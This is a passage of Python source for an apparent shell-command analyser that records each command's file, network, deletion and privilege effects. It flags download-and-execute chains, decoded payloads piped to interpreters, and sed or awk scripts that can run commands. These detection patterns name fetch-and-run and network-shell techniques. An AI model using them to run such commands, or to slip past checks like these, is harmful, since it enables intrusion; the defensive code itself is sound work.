        if pieces and not pieces[0][1] and pieces[0][0].startswith("~"):
            expanded = self._tilde(pieces[0][0])
            if expanded is None:
                whys.append(f"tilde expansion {_short(pieces[0][0])}")
            else:
                value = expanded + value[len(pieces[0][0]) :]
        return Word(value=value, raw=raw, literal=not whys, glob=glob, why="; ".join(whys), tainted=tainted)

    def _tilde(self, first: str) -> str | None:
        prefix, slash, rest = first.partition("/")
        if prefix == "~":
            return self.home + slash + rest
        if prefix == "~+" and self.cwd is not None:
            return str(self.cwd) + slash + rest
        if prefix[1:2] in ("+", "-"):
            return None
        expanded = os.path.expanduser(prefix)
        return None if expanded == prefix else expanded + slash + rest

    # ---- simple commands -------------------------------------------------------------------------

    def _command(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        assignments: list[Node] = []
        name_node: Node | None = None
        rest: list[Node] = []
        own: list[Node] = []
        for child in node.children:
            kind = child.type
            if kind in _REDIRECT_TYPES:
                own.append(child)
            elif kind == "variable_assignment" and name_node is None:
                assignments.append(child)
            elif kind == "command_name":
                name_node = child
            elif kind != "comment":
                rest.append(child)
        head = self._name_word(name_node, ctx) if name_node is not None else None
        prefix_of = head.value if head is not None else None
        for assignment in assignments:
            self._assignment(assignment, ctx, prefix_of=prefix_of)
        words = [head] if head is not None else []
        for child in rest:
            if child.is_named:
                words.append(self._word(child, ctx))
            else:
                self.opaque(f"unsupported syntax {_short(_text(child))} in {_short(_text(node))}")
                words.append(Word(value=_text(child), raw=_text(child), literal=False, why="unsupported syntax"))
        pipe_tail: list[Node] = []
        list_tail: list[Node] = []
        infos = [info for r in own for info in self._redirect(r, ctx, pipe_tail, list_tail)]
        if pipe_tail or list_tail:
            self.opaque(f"unsupported heredoc layout: {_short(_text(node))}")
            for tail in pipe_tail + list_tail:
                self._stmt(tail, replace(ctx, stdin="pipe"), [])
        self._run(words, [*redirs, *infos], ctx)

    def _name_word(self, node: Node, ctx: _Ctx) -> Word:
        start = len(self.commands)
        self._scan(node, ctx)
        tainted = any(_fetches(c.argv) for c in self.commands[start:])
        pieces: list[tuple[str, bool]] = []
        whys: list[str] = []
        self._pieces(node, pieces, whys)
        return self._make_word(_text(node), pieces, whys, tainted)

    def _run(self, words: list[Word], redirs: list[_Redir], ctx: _Ctx) -> None:
        """Record one simple command and describe it if its program is known."""
        if ctx.depth > MAX_NESTING:
            self.opaque(f"nesting deeper than {MAX_NESTING} levels of substitutions or wrappers")
            return
        ctx = _with_stdin(ctx, redirs)
        self.commands.append(
            CommandEffect(argv=[w.value for w in words], redirects=[r.redirect for r in redirs], via=ctx.via)
        )
        for word in words:
            why = suspicious_unicode(word.value)
            if why:
                self.opaque(f"word {_short(word.value)} contains {why}")
        if not words:
            return
        head = words[0]
        if not head.literal:
            what = "downloaded/decoded content executed" if head.tainted else "dynamic command name"
            self.opaque(f"{what}: {_short(head.raw)} ({head.why})")
            return
        name = _program(head.value)
        call = _Call(name=name, words=words, ctx=ctx, redirects=redirs)
        if name in _PRIVILEGED:
            self.privileged = True
        if name in _RESERVED:
            self.opaque(f"reserved word {name!r} used as a command")
        elif "/" in head.value and self._is_tainted(head):
            self.opaque(f"downloaded/decoded content executed: {_short(head.value)}")
        handler = HANDLERS.get(name)
        if handler is not None:
            handler(self, call)
        elif name in _OPAQUE_RUNNERS:
            self.opaque(f"{name} runs commands this gateway does not unwrap")
        if call.taints:
            self.tainted.update(r.path for r in redirs if r.kind == "out" and r.path is not None)

    # ---- helpers for handlers --------------------------------------------------------------------

    def options(
        self,
        call: _Call,
        short: str = "",
        long: Iterable[str] = (),
        known: Iterable[str] = (),
        optional: str = "",
        stop: bool = False,
        args: list[Word] | None = None,
    ) -> _Opts:
        """getopt-style parsing: ``short`` letters and ``long`` names take a value; ``stop`` ends at the first
        operand (wrappers). Long names may be abbreviated, as GNU getopt allows. A non-literal word that
        looks like an option is opaque: it could be any option."""
        args = call.args if args is None else args
        long = frozenset(long)
        names = long | frozenset(known)
        opts = _Opts()
        i = 0
        while i < len(args):
            word = args[i]
            value = word.value
            if value == "--" and word.literal:
                opts.operands.extend(args[i + 1 :])
                break
            if not value.startswith("-") or value == "-":
                if stop:
                    opts.operands.extend(args[i:])
                    break
                opts.operands.append(word)
                i += 1
                continue
            if not word.literal:
                self.opaque(f"{call.name}: option {_short(word.raw)} is not literal ({word.why})")
                i += 1
                continue
            if value.startswith("--"):
                name, eq, _ = value.partition("=")
                name = _canonical(name, names)
                if eq:
                    opts.flags.append((name, word.tail(len(value.partition("=")[0]) + 1)))
                elif name in long:
                    opts.flags.append((name, args[i + 1] if i + 1 < len(args) else None))
                    i += 1
                else:
                    opts.flags.append((name, None))
                i += 1
                continue
            i += self._short_cluster(word, args, i, short, optional, opts)
        return opts

    @staticmethod
    def _short_cluster(word: Word, args: list[Word], i: int, short: str, optional: str, opts: _Opts) -> int:
        """Parse ``-abc`` / ``-ofile`` / ``-o file``; returns how many words were used."""
        value = word.value
        for j in range(1, len(value)):
            letter = value[j]
            if letter in short:
                if j + 1 < len(value):
                    opts.flags.append(("-" + letter, word.tail(j + 1)))
                    return 1
                opts.flags.append(("-" + letter, args[i + 1] if i + 1 < len(args) else None))
                return 2
            if letter in optional:
                opts.flags.append(("-" + letter, word.tail(j + 1) if j + 1 < len(value) else None))
                return 1
            opts.flags.append(("-" + letter, None))
        return 1

    def locate(self, word: Word, what: str) -> Path | None:
        """Where a path word points, or None (with an opaque reason when that is a doubt, not a stream)."""
        if not word.literal:
            self.opaque(f"{what}: path {_short(word.raw)} is not literal ({word.why})")
            return None
        value = word.value
        if value == "":
            return None
        if not value.startswith("/") and self.cwd is None:
            self.opaque(f"{what}: relative path {_short(value)} after a cd that could not be followed")
            return None
        try:
            return self.ws.locate(value, base=self.cwd)
        except InvalidArguments as exc:
            self.opaque(f"{what}: path {_short(value)}: {exc.message}")
            return None

    def read(self, word: Word, call: _Call) -> Path | None:
        if word.literal and (word.value in _STREAMS or word.value.startswith("/dev/fd/")):
            return None
        path = self.locate(word, call.name)
        if path is not None:
            self.reads.append(self.ws.display(path))
        return path

    def write(self, word: Word, call: _Call, modify: bool = False) -> Path | None:
        """A write: ``writes`` if the path exists (or is a glob, or ``modify``), else ``creates``."""
        if word.literal and (word.value in _STREAMS or word.value.startswith("/dev/fd/")):
            return None
        net = _DEV_NET.match(word.value) if word.literal else None
        if net:
            self._host(net.group(2), call.name)
            return None
        path = self.locate(word, call.name)
        if path is None:
            return None
        shown = self.ws.display(path)
        if modify or word.glob or os.path.lexists(path):
            self.writes.append(shown)
        else:
            self.creates.append(shown)
        if call.taints:
            self.tainted.add(path)
        return path

    def delete(self, word: Word, call: _Call, recursive: bool = False) -> None:
        """A delete; recursive, or a glob (mass deletion, pattern kept as text), goes to recursive_deletes."""
        path = self.locate(word, call.name)
        if path is None:
            return
        shown = self.ws.display(path)
        (self.recursive_deletes if recursive or word.glob else self.deletes).append(shown)

    def is_dir(self, word: Word) -> bool:
        if not word.literal or word.glob or (self.cwd is None and not word.value.startswith("/")):
            return False
        try:
            return self.ws.locate(word.value, base=self.cwd).is_dir()
        except InvalidArguments:
            return False

    def url(self, word: Word, call: _Call, default_scheme: str | None = "http") -> None:
        """A URL argument: the host it contacts (or the file:// it reads)."""
        if not word.literal:
            self.opaque(f"{call.name}: URL {_short(word.raw)} is not literal ({word.why})")
            return
        value = word.value
        if default_scheme and "://" not in value and not value.lower().startswith("file:"):
            value = f"{default_scheme}://{value}"
        found = network.describe_url(value, self.ws, via=call.name)
        self.reads.extend(found.reads)
        self.network.extend(found.network)
        self.opaques.extend(found.opaque)

    def remote(self, word: Word, call: _Call) -> bool:
        """``[user@]host:path`` or a URL naming a remote side: record the host; False if it is local."""
        if not word.literal:
            return False
        value = word.value
        if "://" in value:
            self.url(word, call, default_scheme=None)
            return True
        if value.startswith(("/", "./", "../", "~")) or ":" not in value:
            return False
        host_part = value.split(":", 1)[0].rpartition("@")[2]
        if "/" in host_part or not host_part:
            return False
        self._host(host_part.strip("[]"), call.name)
        return True

    def _host(self, host: str, via: str) -> None:
        host = host.lower().rstrip(".")
        why = network.check_host(host)
        if why:
            self.opaque(f"{via}: host {_short(host)}: {why}")
            if not host.isascii():
                self.network.append(NetworkEffect(host=host, via=via))
            return
        self.network.append(NetworkEffect(host=host, via=via))

    def host_word(self, word: Word, call: _Call) -> None:
        """A bare host argument (``ssh user@host``, ``nc host``)."""
        if not word.literal:
            self.opaque(f"{call.name}: host {_short(word.raw)} is not literal ({word.why})")
            return
        value = word.value
        if "://" in value:
            self.url(word, call, default_scheme=None)
            return
        self._host(value.rpartition("@")[2].strip("[]"), call.name)

    def inner(self, words: list[Word], call: _Call, cwd: Word | None = None) -> None:
        """Describe the command a wrapper runs (it is listed again, with via "wrapper:<name>")."""
        words = self._skip_env(words, call)
        if not words:
            return
        sudo = call.ctx.sudo or call.name in _PRIVILEGED
        inner_ctx = replace(call.ctx, via=f"wrapper:{call.name}", depth=call.ctx.depth + 1, sudo=sudo)
        with self.chdir(cwd, call):
            self._run(words, [], inner_ctx)

    def _skip_env(self, words: list[Word], call: _Call) -> list[Word]:
        """Leading NAME=value words (env, sudo) are assignments, not the command."""
        i = 0
        while i < len(words) and re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", words[i].value):
            name, _, value = words[i].value.partition("=")
            self._check_env(name, replace(words[i], value=value), prefix_of=call.name)
            i += 1
        return words[i:]

    @contextmanager
    def chdir(self, word: Word | None, call: _Call) -> Iterator[None]:
        """Run a wrapped command in another directory (git -C, env -C, sudo -D), then come back."""
        saved = self.cwd
        if word is not None:
            self.cwd = self.locate(word, call.name) if word.literal else None
            if not word.literal:
                self.opaque(f"{call.name}: directory {_short(word.raw)} is not literal")
        try:
            yield
        finally:
            self.cwd = saved

    def run_text(self, word: Word, call: _Call, via: str | None = None) -> None:
        """Re-parse a literal command string (bash -c, eval, su -c); anything else is opaque."""
        if not word.literal:
            what = "downloaded/decoded content executed" if word.tainted else "non-literal command text"
            self.opaque(f"{what}: {call.name} runs {_short(word.raw)} ({word.why})")
            return
        saved = self.cwd
        self.describe(
            word.value, replace(call.ctx, via=via or f"wrapper:{call.name}", depth=call.ctx.depth + 1, nest=0)
        )
        self.cwd = saved

    def script(self, word: Word, call: _Call) -> None:
        """An interpreter runs a script file: a read of the file, unless we cannot tell which file."""
        if not word.literal:
            what = "downloaded/decoded content executed" if word.tainted else "script path is not literal"
            self.opaque(f"{what}: {call.name} runs {_short(word.raw)} ({word.why})")
            return
        if word.value in ("-", "/dev/stdin"):
            self.stdin_program(call)
            return
        if self._is_tainted(word):
            self.opaque(f"downloaded/decoded content executed: {call.name} runs {_short(word.value)}")
        self.read(word, call)

    def inline_code(self, word: Word | None, call: _Call) -> None:
        """``python -c CODE``: literal code is a recorded fact; code built at run time is opaque."""
        if word is None:
            self.opaque(f"{call.name}: inline code option without code")
        elif not word.literal:
            what = "downloaded/decoded content executed" if word.tainted else "inline code is not literal"
            self.opaque(f"{what}: {call.name} runs {_short(word.raw)} ({word.why})")

    def stdin_program(self, call: _Call) -> str | None:
        """An interpreter that reads its program from stdin: the literal text, or None (opaque if unknown)."""
        ctx = call.ctx
        if ctx.stdin_tainted:
            self.opaque(f"downloaded/decoded content executed: {call.name} reads its program from {ctx.stdin}")
        elif ctx.stdin in ("pipe", "socket", "dup"):
            self.opaque(f"{call.name} reads its program from a {ctx.stdin} whose content is not known")
        elif ctx.stdin in ("heredoc", "herestring"):
            if ctx.stdin_text is None:
                self.opaque(f"{call.name} reads its program from a {ctx.stdin} with expansions")
            return ctx.stdin_text
        return None

    def _is_tainted(self, word: Word) -> bool:
        if not word.literal or (self.cwd is None and not word.value.startswith("/")):
            return False
        try:
            return self.ws.locate(word.value, base=self.cwd) in self.tainted
        except InvalidArguments:
            return False

    def package(self, manager: str, names: list[str], scope: str, call: _Call) -> None:
        scope = "global" if call.ctx.sudo else scope
        self.packages.append(
            PackageEffect(manager=manager, names=names, scope="global" if scope != "local" else "local")
        )

    def in_workspace(self, word: Word) -> bool:
        if not word.literal or (self.cwd is None and not word.value.startswith("/")):
            return False
        try:
            return self.ws.contains(self.ws.locate(word.value, base=self.cwd))
        except InvalidArguments:
            return False


_STATEMENTS: dict[str, Callable[[_Describer, Node, _Ctx, list[_Redir]], None]] = {
    "program": _Describer._block,
    "list": _Describer._list,
    "pipeline": _Describer._pipeline,
    "command": _Describer._command,
    "redirected_statement": _Describer._redirected,
    "file_redirect": _Describer._redirected,
    "heredoc_redirect": _Describer._redirected,
    "herestring_redirect": _Describer._redirected,
    "subshell": _Describer._subshell,
    "compound_statement": _Describer._group,
    "if_statement": _Describer._conditional,
    "while_statement": _Describer._conditional,
    "for_statement": _Describer._conditional,
    "c_style_for_statement": _Describer._conditional,
    "case_statement": _Describer._conditional,
    "elif_clause": _Describer._block,
    "else_clause": _Describer._block,
    "case_item": _Describer._block,
    "do_group": _Describer._block,
    "negated_command": _Describer._negated,
    "function_definition": _Describer._function,
    "variable_assignment": _Describer._assignments,
    "variable_assignments": _Describer._assignments,
    "declaration_command": _Describer._declaration,
    "unset_command": _Describer._unset,
    "test_command": _Describer._test,
    "ERROR": _Describer._error,
}


def _pipeline_elements(node: Node) -> list[Node]:
    """The commands of a pipeline, flattened (tree-sitter nests ``a | b | c`` and heredoc tails)."""
    out: list[Node] = []
    stack = [node]
    while stack:
        current = stack.pop()
        if current.type == "pipeline":
            stack.extend(reversed([c for c in current.children if c.is_named and c.type != "comment"]))
        else:
            out.append(current)
    return out


def _with_stdin(ctx: _Ctx, redirs: list[_Redir]) -> _Ctx:
    """The command's own stdin, after its redirections (the last one wins, as in bash)."""
    for r in redirs:
        fd = r.redirect.fd
        if r.kind == "socket":
            ctx = replace(ctx, stdin="socket", stdin_text=None, stdin_tainted=True)
        elif r.kind in _INPUT_KINDS and fd in (None, 0):
            ctx = replace(ctx, stdin="file" if r.kind == "in" else r.kind, stdin_text=r.text, stdin_tainted=r.tainted)
        elif r.kind == "dup" and fd == 0:
            ctx = replace(ctx, stdin="dup", stdin_text=None)
    return ctx


def _gaps(node: Node) -> str:
    """The text of ``node`` outside its named children (what the parser left as plain text)."""
    source = node.text or b""
    base = node.start_byte
    pieces: list[bytes] = []
    pos = 0
    for child in node.named_children:
        pieces.append(source[pos : child.start_byte - base])
        pos = child.end_byte - base
    pieces.append(source[pos:])
    return b"".join(pieces).decode("utf-8", errors="replace")


def _error_snippet(root: Node) -> str:
    stack = [root]
    while stack:
        node = stack.pop()
        if node.type == "ERROR" or node.is_missing:
            return _text(node) or _text(node.parent or root)[:60] or "end of input"
        stack.extend(reversed(node.children))
    return _text(root)[:60]


def _canonical(name: str, names: frozenset[str]) -> str:
    """GNU getopt accepts any unambiguous prefix of a long option (``--rec`` is ``--recursive``)."""
    if name in names or len(name) < 3:
        return name
    matches = [n for n in names if n.startswith(name)]
    return matches[0] if len(matches) == 1 else name


def _program(value: str) -> str:
    base = value.rstrip("/").rsplit("/", 1)[-1]
    match = _VERSIONED.match(base)
    if match:
        return {"pypy": "python", "nodejs": "node"}.get(match.group(1), match.group(1))
    return base


def _fetches(argv: list[str]) -> bool:
    """Does this command print downloaded or decoded bytes (the kind that must not reach an interpreter)?"""
    if not argv:
        return False
    name = _program(argv[0])
    args = argv[1:]
    if name in _FETCHERS or name in _DECOMPRESSORS:
        return True
    if name in ("base64", "base32", "basenc", "base58"):
        return any(
            a in ("-d", "--decode", "-D") or (a.startswith("-") and not a.startswith("--") and "d" in a) for a in args
        )
    if name == "xxd":
        return any(a in ("-r", "-revert") or (a.startswith("-r") and len(a) <= 3) for a in args)
    if name == "openssl":
        return "-d" in args or "-decrypt" in args
    if name in ("gzip", "bzip2", "xz", "zstd", "lz4"):
        return any(a in ("-d", "--decompress", "-dc", "-cd") for a in args)
    if name == "gpg":
        return any(a in ("-d", "--decrypt") for a in args)
    return False


def _unique(items: Iterable[str]) -> list[str]:
    return list(dict.fromkeys(items))


def _join(directory: Word, source: Word) -> Word:
    """``dir/basename(source)``: where cp/mv/ln put a source inside a target directory."""
    name = source.value.rstrip("/").rsplit("/", 1)[-1]
    return Word(
        value=f"{directory.value.rstrip('/')}/{name}",
        raw=directory.raw,
        literal=directory.literal and source.literal,
        glob=directory.glob or source.glob,
        why=directory.why or source.why,
    )


# --------------------------------------------------------------------------------------------------
# Handlers: reading, writing and deleting files
# --------------------------------------------------------------------------------------------------


def _reads(short: str = "", long: Iterable[str] = (), default: str | None = None) -> Handler:
    """A program whose operands are files it reads (cat, head, wc, ...)."""
    long = tuple(long)

    def handler(d: _Describer, call: _Call) -> None:
        opts = d.options(call, short, long)
        operands = opts.operands or ([Word.of(default)] if default else [])
        for word in operands:
            d.read(word, call)
        for word in opts.values("--files0-from", "--reference"):
            d.read(word, call)

    return handler


def _writes(short: str = "", long: Iterable[str] = (), modify: bool = False, reads: Iterable[str] = ()) -> Handler:
    """A program whose operands are files it creates or changes (touch, tee, truncate, ...)."""
    long = tuple(long)
    reads = tuple(reads)

    def handler(d: _Describer, call: _Call) -> None:
        opts = d.options(call, short, long)
        for word in opts.values(*reads):
            d.read(word, call)
        for word in opts.operands:
            d.write(word, call, modify=modify)

    return handler


def _mkdir(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "m", ("--mode", "--context"))
    for word in opts.operands:
        path = d.write(word, call)
        if path is not None:
            d.made_dirs.add(path)


def _rm(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        known=(
            "--recursive",
            "--force",
            "--dir",
            "--interactive",
            "--one-file-system",
            "--no-preserve-root",
            "--verbose",
        ),
    )
    recursive = opts.has("-r", "-R", "--recursive")
    for word in opts.operands:
        d.delete(word, call, recursive=recursive)


def _rmdir(d: _Describer, call: _Call) -> None:
    for word in d.options(call).operands:
        d.delete(word, call)


def _shred(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "ns", ("--iterations", "--size", "--random-source"), known=("--remove",))
    remove = opts.has("-u", "--remove")
    for word in opts.operands:
        d.write(word, call, modify=True)
        if remove:
            d.delete(word, call)


def _copy_like(remove_sources: bool) -> Handler:
    """cp and mv: sources are read (cp) or deleted (mv); the destination is written."""

    def handler(d: _Describer, call: _Call) -> None:
        opts = d.options(
            call, "tS", ("--target-directory", "--suffix", "--sparse"), known=("--no-target-directory", "--recursive")
        )
        sources = list(opts.operands)
        directory = (opts.values("-t", "--target-directory") or [None])[-1]
        dest: Word | None = None
        if directory is None and len(sources) >= 2:
            dest = sources.pop()
        for source in sources:
            if remove_sources:
                d.delete(source, call, recursive=d.is_dir(source))
            else:
                d.read(source, call)
        _destinations(d, call, sources, directory, dest, no_dir=opts.has("-T", "--no-target-directory"))

    return handler


def _destinations(
    d: _Describer, call: _Call, sources: list[Word], directory: Word | None, dest: Word | None, no_dir: bool
) -> None:
    """Where copies land: inside a directory target (``dir/name``), or the target itself."""
    if directory is not None:
        for source in sources:
            d.write(_join(directory, source), call)
        return
    if dest is None:
        return
    into = not no_dir and (len(sources) > 1 or d.is_dir(dest) or dest.value.endswith("/"))
    if into:
        for source in sources:
            d.write(_join(dest, source), call)
    else:
        d.write(dest, call)


def _ln(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "tS", ("--target-directory", "--suffix"), known=("--no-target-directory", "--symbolic"))
    targets = list(opts.operands)
    directory = (opts.values("-t", "--target-directory") or [None])[-1]
    if directory is None and len(targets) == 1:
        directory = Word.of(".")
    dest = targets.pop() if directory is None and len(targets) >= 2 else None
    _destinations(d, call, targets, directory, dest, no_dir=opts.has("-T", "--no-target-directory"))


def _install(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        "mogSt",
        ("--mode", "--owner", "--group", "--suffix", "--target-directory", "--strip-program"),
        known=("--directory", "--no-target-directory"),
    )
    if opts.values("--strip-program"):
        d.opaque("install --strip-program runs a program")
    if opts.has("-d", "--directory"):
        for word in opts.operands:
            d.write(word, call)
        return
    sources = list(opts.operands)
    directory = (opts.values("-t", "--target-directory") or [None])[-1]
    dest = sources.pop() if directory is None and len(sources) >= 2 else None
    for source in sources:
        d.read(source, call)
    _destinations(d, call, sources, directory, dest, no_dir=opts.has("-T", "--no-target-directory"))


_MODE = re.compile(r"^([ugoa]*([-+=]([rwxXst]*|[ugo]))+|[-+=]?[0-7]{1,5})(,([ugoa]*([-+=]([rwxXst]*|[ugo]))+))*$")


def _chmod_like(mode_arg: bool) -> Handler:
    """chmod / chown / chgrp: the first operand is the mode or owner, the rest are written."""

    def handler(d: _Describer, call: _Call) -> None:
        args = list(call.args)
        first: Word | None = None
        if mode_arg:
            # `chmod -x file`: a mode may look like an option
            for i, word in enumerate(args):
                if (
                    word.value.startswith("-")
                    and _MODE.match(word.value)
                    and word.value not in ("-R", "-f", "-v", "-c")
                ):
                    first = args.pop(i)
                    break
        opts = d.options(call, "", ("--reference", "--from"), args=args)
        operands = list(opts.operands)
        if first is None and not opts.values("--reference") and operands:
            operands.pop(0)
        for word in opts.values("--reference"):
            d.read(word, call)
        for word in operands:
            d.write(word, call, modify=True)

    return handler


def _dd(d: _Describer, call: _Call) -> None:
    for word in call.args:
        key, eq, _ = word.value.partition("=")
        if not eq:
            continue
        if key == "if":
            d.read(word.tail(3), call)
        elif key == "of":
            d.write(word.tail(3), call)


def _truncate(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "sr", ("--size", "--reference"))
    for word in opts.values("-r", "--reference"):
        d.read(word, call)
    for word in opts.operands:
        d.write(word, call)


def _touch(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "rdt", ("--reference", "--date", "--time"))
    for word in opts.values("-r", "--reference"):
        d.read(word, call)
    for word in opts.operands:
        d.write(word, call)


def _tee(d: _Describer, call: _Call) -> None:
    for word in d.options(call, known=("--append", "--ignore-interrupts", "--output-error")).operands:
        d.write(word, call)


def _patch(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call, "pidoBDrVYzFgs", ("--input", "--directory", "--output", "--reject-file", "--strip", "--backup-prefix")
    )
    for word in opts.values("-i", "--input"):
        d.read(word, call)
    for word in opts.values("-o", "--output"):
        d.write(word, call)
    with d.chdir((opts.values("-d", "--directory") or [None])[-1], call):
        if opts.operands:
            d.write(opts.operands[0], call, modify=True)
        elif not opts.values("-o", "--output"):
            d.write(Word.of("."), call, modify=True)  # the files named inside the patch


def _grep(recursive_default: bool, short: str, long: Iterable[str]) -> Handler:
    """grep-like: the first operand is the pattern unless -e/-f gave one; the rest are files read."""
    long = tuple(long)

    def handler(d: _Describer, call: _Call) -> None:
        opts = d.options(call, short, ("--regexp", "--file", *long))
        operands = list(opts.operands)
        if not opts.values("-e", "--regexp", "-f", "--file") and operands:
            operands.pop(0)
        for word in opts.values("-f", "--file", "--ignore-file", "--exclude-from"):
            d.read(word, call)
        if opts.values("--pre"):
            d.opaque(f"{call.name} --pre runs a preprocessor command")
        recursive = recursive_default or opts.has("-r", "-R", "--recursive", "--dereference-recursive")
        for word in operands or ([Word.of(".")] if recursive and call.ctx.stdin == "inherit" else []):
            d.read(word, call)

    return handler


_GREP = _grep(
    False,
    "efmABCdD",
    ("--max-count", "--after-context", "--before-context", "--context", "--directories", "--devices", "--include")
    + ("--exclude", "--exclude-dir", "--exclude-from", "--label", "--binary-files", "--group-separator"),
)
_RG = _grep(
    True,
    "efgtTmjABCEMrd",
    ("--glob", "--iglob", "--type", "--type-not", "--type-add", "--max-count", "--threads", "--context")
    + ("--after-context", "--before-context", "--encoding", "--max-columns", "--replace", "--max-depth")
    + ("--max-filesize", "--pre", "--pre-glob", "--ignore-file", "--sort", "--sortr", "--colors", "--engine"),
)

# sed's `e` command and `s///e` flag run commands; `w` writes files. A heuristic, so it errs on "opaque".
_SED_RISKY = re.compile(
    r"(^|[;{}\n])\s*(\d+|\$|/[^/]*/)?(,\s*(\d+|\$|/[^/]*/))?\s*!?\s*[eEwW](\s|$)|s(.).*\5.*\5[^;}\n]*[ewW]"
)


def _sed(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "efl", ("--expression", "--file", "--line-length"), known=("--in-place",), optional="i")
    operands = list(opts.operands)
    scripts = opts.values("-e", "--expression")
    if not scripts and not opts.values("-f", "--file") and operands:
        scripts = [operands.pop(0)]
    for script in scripts:
        if not script.literal or _SED_RISKY.search(script.value):
            d.opaque(f"sed script {_short(script.raw)} may run commands or write files (e/w)")
    for word in opts.values("-f", "--file"):
        d.read(word, call)
        d.opaque(f"sed script file {_short(word.raw)} is not analysed")
    in_place = opts.has("-i", "--in-place")
    for word in operands:
        if in_place:
            d.write(word, call, modify=True)
        else:
            d.read(word, call)


_AWK_RISKY = re.compile(r"system|\||print[f]?[^;}]*>|getline|ENVIRON")


def _awk(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call, "fvFiEle", ("--file", "--assign", "--field-separator", "--include", "--load", "--source", "--exec")
    )
    operands = list(opts.operands)
    programs = opts.values("-e", "--source")
    files = opts.values("-f", "--file", "-E", "--exec")
    if not programs and not files and operands:
        programs = [operands.pop(0)]
    for program in programs:
        if not program.literal or _AWK_RISKY.search(program.value):
            d.opaque(f"awk program {_short(program.raw)} may run commands or write files")
    for word in files:
        d.read(word, call)
        d.opaque(f"awk program file {_short(word.raw)} is not analysed")
    in_place = any(w.value == "inplace" for w in opts.values("-i", "--include"))
    for word in operands:
        if re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", word.value):
            continue  # a variable assignment, not a file
        if in_place:
            d.write(word, call, modify=True)
        else:
            d.read(word, call)


def _sort(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        "ktSTo",
        ("--key", "--field-separator", "--buffer-size", "--temporary-directory", "--output", "--files0-from")
        + ("--batch-size", "--parallel", "--random-source", "--compress-program"),
    )
    if opts.values("--compress-program"):
        d.opaque("sort --compress-program runs a program")
    for word in opts.values("-o", "--output"):
        d.write(word, call)
    for word in opts.operands:
        d.read(word, call)


def _uniq(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "fsw", ("--skip-fields", "--skip-chars", "--check-chars"))
    if opts.operands:
        d.read(opts.operands[0], call)
    if len(opts.operands) > 1:
        d.write(opts.operands[1], call)


def _cmp(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "in", ("--ignore-initial", "--bytes"))
    for word in opts.operands[:2]:
        d.read(word, call)


def _xxd(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "cglnosC", ("-cols", "-groupsize", "-len", "-name", "-seek"))
    if opts.operands:
        d.read(opts.operands[0], call)
    if len(opts.operands) > 1:
        d.write(opts.operands[1], call)


def _openssl(d: _Describer, call: _Call) -> None:
    args = call.args
    for i, word in enumerate(args[:-1]):
        nxt = args[i + 1]
        if word.value == "-in":
            d.read(nxt, call)
        elif word.value == "-out":
            d.write(nxt, call)
        elif word.value == "-connect":
            d.host_word(Word.of(nxt.value.rsplit(":", 1)[0]) if nxt.literal else nxt, call)


def _tar(d: _Describer, call: _Call) -> None:
    args = list(call.args)
    flags: list[tuple[str, Word | None]] = []
    # old style: `tar czf out.tgz dir` (a bundle without a dash; f, C, T, ... take the next words)
    if args and args[0].literal and not args[0].value.startswith("-") and re.match(r"^[A-Za-z]+$", args[0].value):
        bundle = args.pop(0).value
        for letter in bundle:
            takes = letter in "fCTXbLNgKVH"
            flags.append(("-" + letter, args.pop(0) if takes and args else None))
    opts = d.options(
        call,
        "fCTXbLNgKVHI",
        ("--file", "--directory", "--files-from", "--exclude-from", "--use-compress-program", "--to-command")
        + ("--checkpoint-action", "--rsh-command", "--info-script", "--new-volume-script", "--index-file"),
        known=(
            "--create",
            "--extract",
            "--get",
            "--list",
            "--append",
            "--update",
            "--absolute-names",
            "--remove-files",
        ),
        args=args,
    )
    opts.flags[:0] = flags
    _tar_effects(d, call, opts)


def _tar_effects(d: _Describer, call: _Call, opts: _Opts) -> None:
    runs = ("-I", "--use-compress-program", "--to-command", "--checkpoint-action", "--rsh-command", "--info-script")
    for name in (*runs, "--new-volume-script", "-F"):
        if opts.values(name) or (name == "-F" and opts.has("-F")):
            d.opaque(f"tar {name} runs a program")
            break
    archives = opts.values("-f", "--file")
    directory = (opts.values("-C", "--directory") or [None])[-1]
    for word in opts.values("-T", "--files-from", "-X", "--exclude-from"):
        d.read(word, call)
    creating = opts.has("-c", "--create", "-r", "--append", "-u", "--update", "-A")
    extracting = opts.has("-x", "--extract", "--get")
    for archive in archives:
        if d.remote(archive, call):
            continue
        if creating:
            d.write(archive, call)
        else:
            d.read(archive, call)
    if creating:
        with d.chdir(directory, call):
            for word in opts.operands:
                d.read(word, call)
                if opts.has("--remove-files"):
                    d.delete(word, call, recursive=d.is_dir(word))
    elif extracting:
        d.write(directory or Word.of("."), call, modify=True)
        if opts.has("-P", "--absolute-names"):
            d.opaque("tar -P extracts absolute paths: it may write anywhere")


# --------------------------------------------------------------------------------------------------
# Handlers: wrappers that run another command
# --------------------------------------------------------------------------------------------------


def _wrapper(short: str = "", long: Iterable[str] = (), known: Iterable[str] = ()) -> Handler:
    """A wrapper whose options end at the first operand, which starts the inner command."""
    long = tuple(long)
    known = tuple(known)

    def handler(d: _Describer, call: _Call) -> None:
        opts = d.options(call, short, long, known, stop=True)
        d.inner(opts.operands, call)

    return handler


def _sudo(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        "CDghpRrtTUu",
        ("--close-from", "--chdir", "--group", "--host", "--prompt", "--chroot", "--role", "--type", "--user")
        + ("--other-user", "--command-timeout"),
        known=("--edit", "--login", "--shell", "--list", "--validate", "--preserve-env"),
        stop=True,
    )
    if opts.has("-e", "--edit") or call.name == "sudoedit":
        for word in opts.operands:
            d.write(word, call, modify=True)
        return
    if opts.values("-R", "--chroot"):
        d.opaque("sudo --chroot runs the command in another root directory")
